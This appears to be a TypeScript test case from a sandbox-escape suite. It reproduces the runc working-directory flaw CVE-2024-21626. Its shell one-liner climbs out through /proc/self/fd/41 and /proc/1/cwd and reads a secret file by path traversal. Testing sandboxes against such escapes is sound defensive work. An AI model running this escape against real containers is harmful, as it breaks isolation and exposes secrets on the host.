import { type Attack, arrived, either, leaked, sh } from '../attack.js'

export const attack: Attack = {
  id: 'descriptors/working-directory',
  tries: 'to climb from its working directory to what was open there before',
  source: 'CVE-2024-21626 (runc): a working directory below /proc/self/fd',
  program: sh`cd /proc/self/fd/41 2> /dev/null && echo > "$NONCE"; cd /proc/1/cwd && echo > "$OUT/$NONCE"; cat ../../../../../../..$SECRET`,
  succeeded: either(leaked, arrived),
  control: 'plain',
}
